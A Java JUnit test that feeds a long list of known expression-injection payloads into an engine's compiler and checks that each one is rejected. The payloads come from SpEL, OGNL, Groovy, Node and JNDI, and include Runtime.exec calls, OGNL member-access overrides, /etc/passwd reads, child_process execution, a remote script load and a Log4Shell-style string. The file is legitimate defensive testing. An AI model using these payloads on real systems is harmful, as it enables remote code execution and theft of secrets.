package dev.waymark.core.expression;

import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Payloads that ran code in other engines. All are refused when compiled, before any data is near,
 * because there is nothing they could call.
 */
class ExpressionPayloadTest {

  private static final String PAYLOADS =
      """
      T(java.lang.Runtime).getRuntime().exec('id')
      T(java.lang.System).exit(1)
      new java.lang.ProcessBuilder({'id'}).start()
      new ProcessBuilder('id').start()
      #{T(java.lang.Runtime).getRuntime().exec('id')}
      ${T(java.lang.Runtime).getRuntime().exec('id')}
      *{T(java.lang.Runtime).getRuntime().exec('id')}
      ''.getClass().forName('java.lang.Runtime')
      ''.class.forName('java.lang.Runtime')
      "".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null)
      ''['class'].forName('java.lang.Runtime')
      Variables.getClass()
      Variables.getClass().getClassLoader()
      Variables.class.classLoader.loadClass('x')
      Variables.tier.getClass().forName('javax.script.ScriptEngineManager').newInstance()
      Variables.customer.toString()
      Variables.mixed.iterator()
      Variables.mixed.stream().map(x -> x)
      Variables.put('a', 1)
      Variables.a = 1
      Variables.a := 1
      @bean.method()
      @java.lang.Runtime@getRuntime().exec('id')
      (#rt=@java.lang.Runtime@getRuntime()).exec('id')
      #_memberAccess['allowStaticMethodAccess']=true
      (#a=new java.io.File('/etc/passwd'))
      #application
      #context['xwork.MethodAccessor.denyMethodExecution']=false
      %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
      execution.setVariable('x', 1)
      execution.getEngineServices().getRuntimeService()
      ${execution.getClass().forName('java.lang.Runtime')}
      #{request.getClass().getClassLoader()}
      ''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js')
      import java.lang.*; Runtime.getRuntime().exec('id')
      Runtime.getRuntime().exec("id")
      java.lang.Runtime.getRuntime().exec('id')
      System.getenv('PATH')
      System.getProperty('user.home')
      "id".execute().text
      'id'.execute()
      new GroovyShell().evaluate('1')
      @groovy.transform.ASTTest(value={assert true}) def x
      def x = 1; x
      { -> 1 }()
      Class.forName('java.lang.Runtime')
      evaluate('1+1')
      eval('1+1')
      Function('return process')()
      constructor.constructor('return process')()
      ''.constructor.constructor('return this')()
      [].constructor.constructor('return this')()
      this.constructor.constructor('return process.env')()
      require('child_process').execSync('id')
      process.mainModule.require('fs')
      globalThis.process
      (() => process.exit())()
      function() { return 1 }
      while (true) {}
      for (;;) {}
      for i in 1..1000000 return i
      if Variables.count > 1 then 1 else 2
      some x in [1, 2] satisfies x > 1
      function(x) external { java: { class: "java.lang.Math", method signature: "cos(double)" } }
      get value(Variables, "tier")
      load('http://example.com/x.js')
      Java.type('java.lang.Runtime').getRuntime().exec('id')
      Packages.java.lang.Runtime.getRuntime()
      {{7*7}}
      <%= 7*7 %>
      ${jndi:ldap://example.com/a}
      google.protobuf.Any{type_url: 'x'}
      google.protobuf.Value{string_value: 'x'}
      google.protobuf.NullValue.NULL_VALUE
      google.api.expr.v1alpha1.Expr{}
      type(Variables)
      Variables.?tier
      optional.of(1)
      cel.bind(x, 1, x)
      """;

  static Stream<String> payloads() {
    return PAYLOADS.lines();
  }

  @ParameterizedTest
  @MethodSource("payloads")
  void a_payload_is_refused_when_compiled(String payload) {
    assertThatExceptionOfType(ExpressionException.class)
        .isThrownBy(() -> Sample.EXPRESSIONS.compile(payload, "/test", Sample.ALL));
  }
}
